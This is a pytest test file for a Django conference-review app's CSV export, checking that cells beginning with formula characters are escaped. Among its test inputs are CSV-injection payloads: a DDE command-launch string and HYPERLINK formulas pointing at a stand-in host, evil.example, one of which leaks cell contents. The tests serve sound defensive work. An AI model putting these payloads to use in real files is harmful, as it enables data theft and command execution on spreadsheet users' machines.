import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from expo.security.csv import csv_cell_escape, csv_writer
from tests.factories import ConferenceFactory
from tests.reviews.factories import chair, submitted_proposal


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example","click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "-",
    ],
)
def test_csv_cell_escape_neutralises_formula_starts(cell):
    assert csv_cell_escape(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Plain text", "", "a=b", "3 + 4", "-3.5", "-12", "42", 7, -7, 2.5, Decimal("-1.5")]
)
def test_csv_cell_escape_leaves_text_and_numbers_alone(cell):
    assert csv_cell_escape(cell) == cell


def test_csv_cell_escape_leaves_empty_values_alone():
    assert csv_cell_escape(None) is None
    assert csv_cell_escape(True) is True


def test_csv_writer_escapes_every_row_and_reads_back():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["title", "score"])
    writer.writerows([["=cmd()", -1], ["Fine, thanks", "@x"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["title", "score"], ["'=cmd()", "-1"], ["Fine, thanks", "'@x"]]


@pytest.mark.django_db
def test_csv_export_of_the_review_dashboard_escapes_a_formula_title(client):
    conference = ConferenceFactory()
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    submitted_proposal(conference, title=title)
    client.force_login(chair(conference))
    response = client.get(reverse("reviews:export", args=[conference.slug]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if "HYPERLINK" in cell] == ["'" + title]
